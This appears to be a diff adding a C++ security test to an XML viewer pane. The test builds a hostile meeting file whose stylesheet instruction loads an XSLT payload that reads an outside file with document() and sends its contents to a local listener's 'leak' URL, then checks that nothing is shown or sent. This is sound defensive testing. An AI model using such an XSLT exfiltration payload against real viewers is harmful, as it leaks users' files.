@@ -5,12 +5,19 @@
 #include <QApplication>
 #include <QTextCursor>
 
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
 #include <cstdlib>
 #include <filesystem>
 
 #include "check/viewer_model.h"
 #include "panes/xml_pane.h"
 #include "platform/drive.h"
+#include "platform/fileio.h"
 #include "platform/paths.h"
 #include "support/fixtures.h"
 
@@ -248,6 +255,52 @@ TEST_F(XmlPaneTest, AMatchNeverSpansTwoCharacters) {
   SetSource(pane, "ｃaア", 3);
   EXPECT_TRUE(pane.FindInSource("ア", false, false));
   EXPECT_EQ(Selection(pane).first, 2);
+}
+
+// The review's attack: a meeting file whose stylesheet instruction is
+// indented and names a stylesheet the delivery controls, which reads a file
+// outside the delivery and sends it to a listener. In every style the pane
+// shows nothing of it and nothing is sent.
+TEST_F(XmlPaneTest, AHostileMeetingFileReadsAndSendsNothing) {
+  ScratchDir d;
+  d.WriteBytes("outside/secret.xml", "<s>OUTSIDE-MARKER-e07c</s>");
+  test::CopyTree(test::SamplePath("clean"), d / "kkt");
+  int listener = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof a);
+  socklen_t len = sizeof a;
+  getsockname(listener, reinterpret_cast<sockaddr*>(&a), &len);
+  listen(listener, 4);
+  fcntl(listener, F_SETFL, O_NONBLOCK);
+  const std::string leak = "http://127.0.0.1:" + std::to_string(ntohs(a.sin_port)) + "/leak?d=";
+  d.WriteBytes("kkt/MEET/EVIL.XSL",
+               "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" "
+               "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:variable "
+               "name=\"s\" select=\"document('" + d / "outside/secret.xml" + "')\"/><xsl:value-of select=\"$s\"/>"
+               "<xsl:value-of select=\"document(concat('" + leak + "', $s))\"/></xsl:template></xsl:stylesheet>\n");
+  std::string meet;
+  ASSERT_TRUE(ReadWholeFile(d / "kkt/MEET/MEET.XML", meet));
+  const std::size_t decl = meet.find("?>") + 2;
+  for (const std::string& href : {d / "kkt/MEET/EVIL.XSL", std::string("../MEET/EVIL.XSL"), std::string("EVIL.XSL")}) {
+    std::string hostile = meet;
+    hostile.insert(decl, "\r\n   <?xml-stylesheet type=\"text/xsl\" href=\"" + href + "\"?>");
+    d.WriteBytes("kkt/MEET/MEET.XML", hostile);
+    TViewerModel model;
+    model.View.Load(d / "kkt");
+    for (int style = 0; style < 3; ++style) {
+      TfrmXML pane(model);
+      (style == 0 ? pane.rbtStyle : style == 1 ? pane.rbtXMLSource : pane.rbtPureSource)->click();
+      pane.ShowNode(model.View.FindClassNode(2));
+      EXPECT_FALSE(pane.webBrowser->RenderedText().contains("OUTSIDE-MARKER")) << href << " style " << style;
+      EXPECT_FALSE(pane.memSource->toPlainText().contains("OUTSIDE-MARKER"));
+      if (style == 0) EXPECT_TRUE(pane.webBrowser->RenderedText().contains("現場代理人等通知書の提出について"));
+    }
+    model.View.RemoveWorkFolders();
+  }
+  EXPECT_LT(accept(listener, nullptr, nullptr), 0);
+  close(listener);
 }
 
 }  // namespace
